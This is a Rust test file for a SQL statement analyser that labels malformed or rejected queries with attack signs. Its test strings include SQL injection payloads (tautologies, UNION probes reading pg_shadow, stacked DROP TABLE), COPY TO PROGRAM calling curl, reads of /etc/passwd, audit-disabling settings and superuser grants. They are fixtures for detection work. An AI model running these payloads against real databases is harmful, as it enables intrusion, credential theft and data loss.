//! Facts of texts that the grammar rejects.

use kumki_model::Sign;
use kumki_sql::shape;

use crate::support::{reads, writes};

#[test]
fn truncated_and_foreign_statements_still_give_facts() {
    for (sql, command, read, written, signs) in [
        (
            "SELECT a FROM s.t x, u JOIN v ON x.a = v.a WHERE b = 'cut off",
            "SELECT",
            vec!["s.t", "u", "v"],
            vec![],
            vec![Sign::CommentCut],
        ),
        (
            "INSERT INTO t (a) SELECT b FROM u WHERE c IN (",
            "INSERT",
            vec!["u"],
            vec!["t"],
            vec![],
        ),
        (
            "UPDATE s.t SET a = 1 WHERE b = (SELECT c FROM",
            "UPDATE",
            vec![],
            vec!["s.t"],
            vec![],
        ),
        (
            "DELETE FROM t WHERE a = 1 AND (",
            "DELETE",
            vec![],
            vec!["t"],
            vec![],
        ),
        (
            "WITH x AS (SELECT 1 FROM a) DELETE FROM b USING x WHERE (",
            "DELETE",
            vec!["a"],
            vec!["b"],
            vec![],
        ),
        (
            "COPY t TO PROGRAM 'curl http://x' WITH (FORMAT",
            "COPY TO",
            vec!["t"],
            vec![],
            vec![Sign::ProgramExecution],
        ),
        (
            "COPY t FROM '/etc/passwd' WITH (",
            "COPY FROM",
            vec![],
            vec!["t"],
            vec![Sign::ServerFileRead],
        ),
        (
            "SELECT pg_read_file('/etc/passwd') FROM",
            "SELECT",
            vec![],
            vec![],
            vec![Sign::ServerFileRead],
        ),
        (
            "CREATE USER a SUPERUSER PASSWORD 'x' FOO",
            "CREATE ROLE",
            vec![],
            vec![],
            vec![Sign::SuperuserGrant, Sign::PasswordSet],
        ),
        (
            "ALTER SYSTEM SET log_statement = 'none' FOO BAR",
            "ALTER SYSTEM",
            vec![],
            vec![],
            vec![],
        ),
        (
            "SET pgaudit.log = 'none' ,",
            "SET",
            vec![],
            vec![],
            vec![Sign::AuditWeakened],
        ),
        (
            "GRANT pg_read_server_files TO PUBLIC WITH ADMIN OPTION x",
            "GRANT ROLE",
            vec![],
            vec![],
            vec![
                Sign::PredefinedRoleGrant,
                Sign::PublicGrant,
                Sign::GrantOption,
            ],
        ),
        (
            "DROP DATABASE a, b",
            "DROP DATABASE",
            vec![],
            vec![],
            vec![Sign::Destruction, Sign::MassDestruction],
        ),
        (
            "SELECT * FROM users WHERE id = 1 OR 1=1 LIMIT",
            "SELECT",
            vec!["users"],
            vec![],
            vec![Sign::Tautology],
        ),
        (
            "SELECT a FROM t WHERE b = ) UNION SELECT NULL, NULL --",
            "SELECT",
            vec!["t"],
            vec![],
            vec![Sign::UnionProbe, Sign::CommentCut],
        ),
        (
            "SELECT a FROM t WHERE b = ) UNION ALL SELECT usename FROM pg_shadow",
            "SELECT",
            vec!["t", "pg_shadow"],
            vec![],
            vec![Sign::UnionCatalog, Sign::CatalogRead, Sign::CredentialRead],
        ),
        (
            "SELECT a FROM t WHERE ); DROP TABLE t",
            "SELECT",
            vec!["t"],
            vec!["t"],
            vec![Sign::Stacked, Sign::Destruction],
        ),
        (
            "SELECT chr(1)||chr(2)||chr(3) ||",
            "SELECT",
            vec![],
            vec![],
            vec![Sign::CharBuild],
        ),
        (
            "SELECT CAST((SELECT version()) AS int) FROM )",
            "SELECT",
            vec![],
            vec![],
            vec![Sign::ErrorProbe],
        ),
        (
            "DO LANGUAGE plperlu $$ x $$ y",
            "DO",
            vec![],
            vec![],
            vec![Sign::AnonymousCode, Sign::UntrustedCode],
        ),
        (
            "CREATE FUNCTION f( AS '/tmp/x.so' LANGUAGE c SECURITY DEFINER",
            "CREATE FUNCTION",
            vec![],
            vec![],
            vec![Sign::UntrustedCode, Sign::SecurityDefiner],
        ),
        (
            "START_REPLICATION SLOT \"x\" LOGICAL 0/0",
            "START_REPLICATION",
            vec![],
            vec![],
            vec![Sign::ReplicationSlot],
        ),
        (
            "SELECT extract(epoch FROM x), a IS DISTINCT FROM b, ( FROM t",
            "SELECT",
            vec!["x", "t"],
            vec![],
            vec![],
        ),
        (
            "SELECT a FROM t WHERE b = 1 LIMIT LIMIT",
            "SELECT",
            vec!["t"],
            vec![],
            vec![],
        ),
        (
            "INSERT INTO t VALUES (1) ON CONFLICT DO UPDATE SET x = 1 FOR UPDATE",
            "INSERT",
            vec![],
            vec!["t"],
            vec![],
        ),
    ] {
        let shape = shape(sql);
        assert!(!shape.parsed, "{sql}");
        assert_eq!(shape.command(), command, "{sql}");
        assert_eq!(reads(&shape), read, "{sql}");
        assert_eq!(writes(&shape), written, "{sql}");
        let found: Vec<_> = shape.signs.iter().collect();
        for sign in &signs {
            assert!(
                found.contains(sign),
                "{sql}\nlacks {}: {found:?}",
                sign.as_str()
            );
        }
        assert!(
            !found.contains(&Sign::NoWhere) && !found.contains(&Sign::WholeTable),
            "{sql}"
        );
    }
}

#[test]
fn no_sign_of_attack_where_there_is_none() {
    for sql in [
        "SELECT a FROM t WHERE b = 1 OR c = 2 AND (",
        "SELECT a FROM t WHERE b = x.b OR c = y.c LIMIT LIMIT",
        "SELECT a, b FROM t UNION SELECT c, d FROM (",
        "INSERT INTO t (a, b) VALUES (1, 'x'), (2,",
        "SET my.value = 5 +",
    ] {
        let shape = shape(sql);
        assert!(
            !shape.parsed && shape.signs.is_empty(),
            "{sql}: {:?}",
            shape.signs
        );
    }
}

#[test]
fn bytes_that_no_statement_holds() {
    for sql in [
        "SELECT\0 1",
        "\u{1}\u{2}",
        "\\d t",
        "{}",
        "SELECT '\0' FROM t",
        "é = ü",
    ] {
        let _ = shape(sql);
    }
    assert_eq!(reads(&shape("SELECT '\0' FROM t")), ["t"]);
}

#[test]
fn texts_beyond_the_limit_are_judged_by_their_first_part() {
    let sql = format!(
        "SELECT pg_sleep(1) FROM t WHERE a IN ({})",
        "1, ".repeat(200_000)
    );
    let shape = shape(&sql);
    assert!(!shape.parsed);
    assert!(shape.signs.contains(Sign::Oversized) && shape.signs.contains(Sign::TimeDelay));
    assert!(!shape.signs.contains(Sign::CommentCut));
}
